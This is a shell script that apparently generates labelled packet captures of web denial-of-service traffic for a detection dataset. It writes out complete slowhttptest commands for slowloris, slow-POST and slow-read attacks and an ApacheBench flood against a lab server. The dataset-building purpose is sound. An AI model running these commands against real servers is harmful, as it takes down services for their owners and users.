# Denial of service on the web server by connections: many at once, or few that never end.

crawl() { # FILE SNAPLEN WHAT SLOWHTTPTEST-OPTION…
    about attack http_slow "$1" "mixed with benign" 198.51.100.66 10.20.0.10 "$3"
    stage
    host attacker out 198.51.100.66 9
    capture "$2"
    murmur 600 &
    sleep 4
    attack attacker timeout 70 slowhttptest "${@:4}"
    finish 3
}

case_slowloris() { crawl slowloris.pcap.gz 160 "slowhttptest -H: 80 connections, a header line each every 10 s" -H -c 80 -r 50 -i 10 -l 50 -u http://10.20.0.10/; }

case_slow_post() { crawl slow-post.pcap.gz 160 "slowhttptest -B: 80 PUTs whose bodies come a few bytes every 10 s" -B -c 80 -r 50 -i 10 -l 50 -s 8192 -t PUT -u http://10.20.0.10/upload/slow; }

case_slow_read() { crawl slow-read.pcap.gz 96 "slowhttptest -X: 100 connections that read 150 kB through a window of some bytes" -X -c 100 -r 50 -l 45 -w 10 -y 40 -n 5 -z 32 -u http://10.20.0.10/150.bin; }

case_http_flood() {
    about attack http_flood http-flood.pcap.gz "mixed with benign" 198.51.100.66 10.20.0.10 "ab -n 500 -c 40: a connection for every request, as fast as the server answers"
    stage
    host attacker out 198.51.100.66 9
    capture 80
    murmur 600 &
    sleep 4
    attack attacker ab -q -n 500 -c 40 http://10.20.0.10/
    finish 3
}
